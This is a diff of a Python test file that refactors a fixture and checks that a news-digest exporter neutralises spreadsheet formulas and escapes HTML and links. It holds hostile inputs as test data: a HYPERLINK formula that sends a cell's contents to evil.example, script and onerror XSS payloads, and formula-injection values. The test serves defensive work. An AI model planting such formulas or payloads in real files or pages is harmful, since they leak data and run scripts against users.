@@ -13,7 +13,7 @@ from oversight.flows.cli import app
 from oversight.schemas.settings import LakeLocation
 from oversight.warehouse import db
 from oversight.warehouse.digest import EventRow, build_digest, render_markdown, write_digest
-from tests.research_fixtures import Ev, at, land, research_warehouse, story
+from tests.research_fixtures import Ev, at, land, story
 
 runner = CliRunner()
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -21,14 +21,13 @@ HTML_AND_LINKS = '<script>alert(1)</script><img src=x onerror=alert(2)> [council
 
 
 @pytest.fixture
-def warehouse(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> LakeLocation:
-    lake = research_warehouse(tmp_path / "w")
+def warehouse(warehouse: LakeLocation) -> LakeLocation:
+    """The research warehouse (conftest), with a hostile story landed too."""
     hostile = story("h1", at("2026-03-12"), [Ev(FORMULA, "TX", "drones", "acquires", vendor="@SUM(1)"),
                                              Ev(HTML_AND_LINKS, "TX", "drones", "bans")],
                     title="-2+3 " + HTML_AND_LINKS, outlet="evil.example")
-    land(lake, [hostile])
-    monkeypatch.setenv("OVERSIGHT_HOME", str(tmp_path / "w"))
-    return lake
+    land(warehouse, [hostile])
+    return warehouse
 
 
 def test_the_digest_csv_neutralises_formulas_and_its_markdown_escapes_html_and_links(
